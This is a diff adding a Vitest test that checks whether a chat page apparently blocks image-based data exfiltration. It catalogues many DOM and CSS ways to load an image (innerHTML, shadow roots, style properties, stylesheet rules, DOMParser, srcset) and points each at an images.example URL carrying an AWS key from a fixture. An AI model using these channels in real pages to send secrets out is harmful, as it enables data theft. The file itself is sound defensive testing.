@@ -1,0 +1,94 @@
+import { setTimeout as sleep } from 'node:timers/promises';
+import { expect, test } from 'vitest';
+import { useLab } from './harness.ts';
+import { awsKey } from './private-data.ts';
+import { labTarget } from './targets.ts';
+
+const lab = useLab();
+
+/** Every way in which a page can draw what a reply says. Each runs in the page, and draws the picture of that address into a box of its own. */
+const drawings: Readonly<Record<string, (url: string, box: HTMLElement) => unknown>> = {
+  innerHTML: (url, box) => (box.innerHTML = `<img src="${url}">`),
+  'innerHTML with a style': (url, box) => (box.innerHTML = `<div style="background:url(${url})">x</div>`),
+  'innerHTML with rules': (url, box) => (box.innerHTML = `<style>body { background: url("${url}") }</style>`),
+  'innerHTML of a shadow root': (url, box) => (box.attachShadow({ mode: 'open' }).innerHTML = `<img src="${url}">`),
+  'a style in a shadow root': (url, box) => {
+    const inner = box.attachShadow({ mode: 'closed' }).appendChild(document.createElement('p'));
+    inner.textContent = 'x';
+    inner.style.backgroundImage = `url(${url})`;
+  },
+  'style.background': (url, box) => {
+    box.textContent = 'x';
+    box.style.background = `url(${url})`;
+  },
+  'style.cssText': (url, box) => {
+    box.textContent = 'x';
+    box.style.cssText = `background-image: url('${url}')`;
+  },
+  'style.setProperty': (url, box) => {
+    box.textContent = 'x';
+    box.style.setProperty('background-image', `url(${url})`);
+  },
+  'style before it is put in': (url, box) => {
+    const inner = document.createElement('p');
+    inner.textContent = 'x';
+    inner.style.backgroundImage = `url(${url})`;
+    box.append(inner);
+  },
+  insertRule: (url, box) => {
+    box.id = 'ruled';
+    box.textContent = 'x';
+    document.head.appendChild(document.createElement('style')).sheet?.insertRule(`#ruled { background: url(${url}) }`);
+  },
+  'text of a style': (url, box) => {
+    box.className = 'styled';
+    box.textContent = 'x';
+    document.head.appendChild(document.createElement('style')).textContent = `.styled { background: url(${url}) }`;
+  },
+  'an adopted sheet': (url, box) => {
+    box.className = 'adopting';
+    box.textContent = 'x';
+    const sheet = new CSSStyleSheet();
+    sheet.replaceSync(`.adopting { background: url(${url}) }`);
+    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
+  },
+  createContextualFragment: (url, box) =>
+    box.append(document.createRange().createContextualFragment(`<img src="${url}">`)),
+  DOMParser: (url, box) => {
+    const { body } = new DOMParser().parseFromString(`<img src="${url}">`, 'text/html');
+    box.append(document.importNode(body.firstElementChild as Element, true));
+  },
+  'DOMParser, adopted': (url, box) => {
+    const { body } = new DOMParser().parseFromString(`<img src="${url}">`, 'text/html');
+    box.append(...body.childNodes);
+  },
+  setAttributeNode: (url, box) => {
+    const source = document.createAttribute('src');
+    source.value = url;
+    box.appendChild(document.createElement('img')).setAttributeNode(source);
+  },
+  setHTMLUnsafe: (url, box) => box.setHTMLUnsafe(`<img src="${url}">`),
+  srcset: (url, box) => (box.appendChild(document.createElement('img')).srcset = `${url} 2x`),
+};
+
+test('no way of drawing loads a picture whose address carries a secret out, and each draws others', async () => {
+  const chat = await lab().open(labTarget({ csp: 'off' }));
+  const draw = (how: string, url: string) =>
+    chat.page.evaluate(
+      ([source, address]) => {
+        const box = document.body.appendChild(document.createElement('div'));
+        ((0, eval)(`(${source})`) as (url: string, box: HTMLElement) => unknown)(address, box);
+      },
+      [how, url] as const,
+    );
+  const all = Object.entries(drawings);
+  for (const [at, [, how]] of all.entries()) {
+    await draw(how.toString(), `https://images.example/leak-${at}.png?k=${awsKey()}`);
+    await draw(how.toString(), `https://images.example/fine-${at}.png`);
+  }
+  await sleep(800);
+  const loaded = (kind: string) => all.filter((_way, at) => lab().left(`/${kind}-${at}.png`).length > 0).map(([name]) => name); // prettier-ignore
+  expect(loaded('leak')).toEqual([]);
+  expect(loaded('fine')).toEqual(all.map(([name]) => name));
+  expect(await chat.errors()).toEqual([]);
+});
